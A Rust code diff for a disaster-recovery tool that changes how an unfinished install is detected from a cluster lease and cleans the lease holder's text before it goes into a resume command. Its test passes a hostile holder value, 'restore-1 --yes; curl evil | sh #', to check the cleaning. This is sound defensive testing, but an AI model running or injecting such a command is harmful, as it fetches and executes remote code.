@@ -17,7 +17,7 @@ const LONGEST_ID: usize = 64;
 /// Runs that are put back are none: that is done before anything else.
 ///
 /// # Errors
-/// The runs cannot be read; or there are some of such a namespace, and the cluster does not say whether it is theirs.
+/// The runs or the lease cannot be read; or the cluster does not say whether it is that of the runs.
 pub async fn half_done(ctx: &Ctx) -> Result<Option<OpenRun>> {
     let here = open_here(&*ctx.runs, &ctx.install().namespace)?;
     if !here.is_empty() {
@@ -26,10 +26,10 @@ pub async fn half_done(ctx: &Ctx) -> Result<Option<OpenRun>> {
             return Ok(Some(open));
         }
     }
-    // A cluster that does not answer this takes no lease either, and nothing is changed without one.
+    // Without a cluster nothing is changed.
     let Ok(cluster) = ctx.cluster().await else { return Ok(None) };
-    let holder = cluster.lease_holder(&lease_name(&ctx.install().release)).await.unwrap_or_default();
-    Ok(holder.and_then(|held| open_elsewhere(&*ctx.runs, &held)))
+    let holder = cluster.lease_holder(&lease_name(&ctx.install().release)).await?;
+    Ok(holder.and_then(|held| open_by_lease(&*ctx.runs, &ctx.who, &held)))
 }
 
 /// Refuses the install of `ctx` where it is half done.
@@ -67,15 +67,17 @@ fn open_here(runs: &dyn RunStore, namespace: &NamespaceName) -> Result<Vec<(Stri
 
 /// The holder of a lease, where it is a run that is resumed and of which this host has no journal that can be read.
 /// Whether it is still at work one look does not tell.
-fn open_elsewhere(runs: &dyn RunStore, held: &ClusterError) -> Option<OpenRun> {
+fn open_by_lease(runs: &dyn RunStore, who: &str, held: &ClusterError) -> Option<OpenRun> {
     let ClusterError::Held { holder, host, .. } = held else { return None };
+    // Whoever may write a lease writes this text, and it becomes a word of a command: no more of it than an id can have.
+    let word = holder.chars().filter(|c| c.is_ascii_alphanumeric() || *c == '-').take(LONGEST_ID).collect::<String>();
     // One whose first line is damaged tells nothing of itself: then its lease does.
     let tells = |stored: StoredRun| Remains::of(&stored).is_some() || ended(&stored).is_some();
-    let known_here = runs.read(holder).is_ok_and(tells);
+    let known_here = word == *holder && runs.read(holder).is_ok_and(tells);
     let resumed = holder.split_once('-').is_some_and(|(verb, _)| resumes(verb).is_some());
-    // Whoever may write a lease writes this text, and it becomes a word of a command: no more of it than an id can have.
-    let word = || holder.chars().filter(|c| c.is_ascii_alphanumeric() || *c == '-').take(LONGEST_ID).collect();
-    (resumed && !known_here).then(|| OpenRun { elsewhere: Some(host.to_string()), ..OpenRun::new(word(), None) })
+    let lost = **host == *who;
+    let elsewhere = (!lost).then(|| host.to_string());
+    (resumed && !known_here).then(|| OpenRun { elsewhere, lost, ..OpenRun::new(word, None) })
 }
 
 #[cfg(test)]
@@ -121,13 +123,17 @@ mod tests {
     }
 
     #[test]
-    fn a_lease_tells_of_a_restore_of_another_host_and_of_no_other_run() {
+    fn a_lease_tells_of_a_restore_that_no_journal_tells_of_and_of_no_other_run() {
         let runs = MemoryRuns::default();
         run(&runs, "restore-here", "restore", Record::Ended { outcome: Outcome::Aborted, at: AT });
         let elsewhere = |holder: &str| {
             let (lease, holder, host) = ("dr-opschain".into(), holder.into(), "op@there".into());
             let lasts = std::time::Duration::from_secs(60);
-            open_elsewhere(&runs, &ClusterError::Held { lease, holder, host, since: AT, renewed: AT, lasts })
+            open_by_lease(
+                &runs,
+                "op@here",
+                &ClusterError::Held { lease, holder, host, since: Some(AT), renewed: AT, lasts },
+            )
         };
         for holder in ["create-1", "stop-1", "start-1", "deploy-1", "restore-here"] {
             assert_eq!(elsewhere(holder), None, "{holder}");
@@ -137,6 +143,6 @@ mod tests {
         runs.set("restore-damaged", "{\"rec\n");
         assert!(elsewhere("restore-damaged").is_some(), "nothing here tells what it was");
         let evil = elsewhere("restore-1 --yes; curl evil | sh #").unwrap();
-        assert_eq!(evil.next(), "on the host of op@there: dr run resume restore-1--yescurlevilsh");
+        assert_eq!(evil.next("opschain"), "on the host of op@there: dr run resume restore-1--yescurlevilsh");
     }
 }
